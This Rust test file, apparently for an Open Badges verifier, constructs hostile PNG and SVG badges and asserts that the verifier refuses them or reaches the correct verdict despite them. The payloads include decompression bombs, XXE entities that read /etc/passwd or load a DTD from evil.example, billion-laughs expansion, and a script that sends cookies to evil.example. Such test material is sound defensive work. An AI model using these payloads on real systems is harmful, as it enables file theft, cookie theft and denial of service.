//! Pictures that are larger, or do more, than pictures should.

use openbadges::baking::{Payload, bake};
use openbadges::verify::Verdict;

use crate::bombs;
use crate::world::{Attack, assert_all, badge, signed};

pub(crate) fn attacks() -> Vec<Attack> {
    [
        dimensions(),
        checksums(),
        text_bombs(),
        document_types(),
        entities(),
        scripts(),
    ]
    .concat()
}

const SIGNATURE: &[u8] = b"\x89PNG\r\n\x1a\n";
const BADGES: &str = "https://purl.imsglobal.org/ob/v3p0";

fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = u32::try_from(data.len()).unwrap().to_be_bytes().to_vec();
    chunk.extend_from_slice(kind);
    chunk.extend_from_slice(data);
    let checksum = crc32fast::hash(&chunk[4..]);
    chunk.extend_from_slice(&checksum.to_be_bytes());
    chunk
}

fn png(width: u32, height: u32, middle: &[u8]) -> Vec<u8> {
    let mut header = [width.to_be_bytes(), height.to_be_bytes()].concat();
    header.extend([8, 6, 0, 0, 0]);
    let pixels = chunk(b"IDAT", &[0x78, 0x01, 0x63, 0, 0, 0, 2, 0, 1]);
    [
        SIGNATURE,
        &chunk(b"IHDR", &header),
        middle,
        &pixels,
        &chunk(b"IEND", b""),
    ]
    .concat()
}

fn text(keyword: &[u8], compressed: bool, text: &[u8]) -> Vec<u8> {
    let flag = u8::from(compressed);
    chunk(b"iTXt", &[keyword, &[0, flag, 0, 0, 0], text].concat())
}

fn honest() -> String {
    signed(&badge()).to_string()
}

fn of_badge(content: &str) -> Vec<u8> {
    text(b"openbadgecredential", false, content.as_bytes())
}

/// Nobody here decodes the pixels, so their number costs nothing.
fn dimensions() -> Vec<Attack> {
    let of = |name: &str, width: u32, height: u32| {
        Attack::new(
            name,
            png(width, height, &of_badge(&honest())),
            "signature.ok",
        )
        .ending(Verdict::Valid)
    };
    vec![
        of(
            "picture of 2³¹ by 2³¹ pixels",
            i32::MAX as u32,
            i32::MAX as u32,
        ),
        of("picture of 2³² by 2³² pixels", u32::MAX, u32::MAX),
        of("picture of no pixels", 0, 0),
    ]
}

fn checksums() -> Vec<Attack> {
    let good = bake(&png(1, 1, &[]), &Payload::V3Json(honest())).unwrap();
    let at = |needle: &[u8]| {
        good.windows(needle.len())
            .position(|window| window == needle)
            .unwrap()
    };
    let broken = |place: usize| {
        let mut picture = good.clone();
        picture[place] ^= 1;
        picture
    };
    let mut long = good.clone();
    let length = at(b"iTXt") - 4;
    long[length..length + 4].copy_from_slice(&u32::MAX.to_be_bytes());
    vec![
        Attack::new(
            "picture with a changed badge text",
            broken(at(b"Listening")),
            "format.unreadable",
        ),
        Attack::new(
            "picture with a changed header",
            broken(at(b"IHDR") + 5),
            "format.unreadable",
        ),
        Attack::new(
            "picture with a wrong checksum",
            broken(good.len() - 1),
            "format.unreadable",
        ),
        Attack::new(
            "picture cut in the middle",
            &good[..good.len() / 2],
            "format.unreadable",
        ),
        Attack::new("picture with a piece of 4 GB", long, "format.unreadable"),
        Attack::new(
            "picture of 100,000 pieces",
            png(1, 1, &chunk(b"tEXt", b"a\0b").repeat(100_000)),
            "format.unreadable",
        ),
    ]
}

fn text_bombs() -> Vec<Attack> {
    let bomb = text(b"openbadgecredential", true, &bombs::zlib(400));
    let old = chunk(
        b"zTXt",
        &[&b"openbadgecredential\0\0"[..], &bombs::zlib(400)].concat(),
    );
    let foreign = chunk(b"zTXt", &[&b"Comment\0\0"[..], &bombs::zlib(400)].concat());
    let beside = [of_badge(&honest()), foreign].concat();
    let second = [of_badge(&honest()), bomb.clone()].concat();
    vec![
        Attack::new(
            "text of 400 MB in a picture",
            png(1, 1, &bomb),
            "format.too_large",
        )
        .ending(Verdict::Indeterminate),
        Attack::new(
            "old text of 400 MB in a picture",
            png(1, 1, &old),
            "format.too_large",
        )
        .ending(Verdict::Indeterminate),
        Attack::new(
            "400 MB beside the badge",
            png(1, 1, &beside),
            "signature.ok",
        )
        .ending(Verdict::Valid),
        Attack::new(
            "400 MB in a second badge text",
            png(1, 1, &second),
            "format.several",
        )
        .ending(Verdict::Valid),
    ]
}

fn svg(before: &str, inside: &str) -> Vec<u8> {
    format!("{before}<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"{BADGES}\">{inside}</svg>").into()
}

fn holder(content: &str) -> String {
    format!("<openbadges:credential><![CDATA[{content}]]></openbadges:credential>")
}

fn document_types() -> Vec<Attack> {
    let refused = |name: &str, before: &str, content: &str| {
        Attack::new(name, svg(before, &holder(content)), "format.unreadable")
    };
    vec![
        refused("drawing with its own entities", "<!DOCTYPE svg [<!ENTITY a \"b\">]>", &honest()),
        refused(
            "drawing with entities from elsewhere",
            "<!DOCTYPE svg [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>",
            &honest(),
        ),
        refused(
            "drawing with a file of this machine",
            "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
            &honest(),
        ),
        // The bare line of old drawing programs declares nothing.
        Attack::new(
            "drawing with a bare document type",
            svg(
                "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
                &holder(&honest()),
            ),
            "signature.ok",
        )
        .ending(Verdict::Valid),
    ]
}

/// A billion laughs: ten entities, each ten times the one before.
fn entities() -> Vec<Attack> {
    let mut declarations = String::from("<!ENTITY l0 \"ha\">");
    for level in 1..10 {
        let ten = format!("&l{};", level - 1).repeat(10);
        declarations.push_str(&format!("<!ENTITY l{level} \"{ten}\">"));
    }
    let laughs = format!("<!DOCTYPE svg [{declarations}]>");
    let inside = "<openbadges:credential>&l9;</openbadges:credential>";
    let quadratic = format!("<!DOCTYPE svg [<!ENTITY a \"{}\">]>", "a".repeat(100_000));
    let many = format!(
        "<openbadges:credential>{}</openbadges:credential>",
        "&a;".repeat(100_000)
    );
    vec![
        Attack::new(
            "a billion laughs",
            svg(&laughs, inside),
            "format.unreadable",
        ),
        Attack::new(
            "one long entity many times",
            svg(&quadratic, &many),
            "format.unreadable",
        ),
        Attack::new(
            "entity that nobody declared",
            svg("", "<openbadges:credential>&l9;</openbadges:credential>"),
            "format.unreadable",
        ),
        Attack::new(
            "drawing 100,000 deep",
            svg("", &"<g>".repeat(100_000)),
            "format.unreadable",
        ),
        Attack::new(
            "drawing of a million elements",
            svg("", &"<g/>".repeat(1_000_000)),
            "format.unreadable",
        ),
    ]
}

/// A verifier shows no drawing: what would run in one is carried through and touches no verdict.
fn scripts() -> Vec<Attack> {
    let with = |name: &str, more: &str| {
        let inside = holder(&honest()) + more;
        Attack::new(name, svg("", &inside), "signature.ok").ending(Verdict::Valid)
    };
    let in_badge = honest().replacen("Listening", "<script>alert(1)</script>", 1);
    vec![
        with(
            "drawing with a script",
            "<script>fetch('https://evil.example/'+document.cookie)</script>",
        ),
        with("drawing with a handler", "<rect onload=\"alert(1)\"/>"),
        with(
            "drawing with a page inside",
            "<foreignObject><iframe src=\"javascript:alert(1)\"/></foreignObject>",
        ),
        Attack::new(
            "script in the badge's own words",
            svg("", &holder(&in_badge)),
            "signature.mismatch",
        ),
        Attack::new(
            "badge text only in a script",
            svg(
                "",
                &format!(
                    "<script>{}</script>",
                    honest().replace('<', "&lt;").replace('&', "&amp;")
                ),
            ),
            "format.no_badge",
        ),
    ]
}

#[test]
fn huge_dimensions_cost_nothing() {
    assert_all(dimensions());
}

#[test]
fn a_wrong_checksum_is_refused() {
    assert_all(checksums());
}

#[test]
fn a_compressed_text_is_not_unpacked_without_end() {
    assert_all(text_bombs());
}

#[test]
fn a_document_type_that_declares_anything_is_refused() {
    assert_all(document_types());
}

#[test]
fn entities_are_not_expanded() {
    assert_all(entities());
}

#[test]
fn a_script_changes_no_verdict() {
    assert_all(scripts());
}
